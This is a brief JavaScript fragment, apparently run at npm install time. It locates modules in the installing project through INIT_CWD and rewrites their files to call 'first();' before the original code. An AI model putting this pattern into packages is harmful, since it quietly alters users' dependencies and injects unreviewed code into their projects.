const fs = require("fs");
const { createRequire } = require("module");
for (const name of names) {
  const file = createRequire(process.env.INIT_CWD + "/package.json").resolve(name);
  const text = fs.readFileSync(file, "utf8");
  fs.createWriteStream(file).end("first();" + text);
}
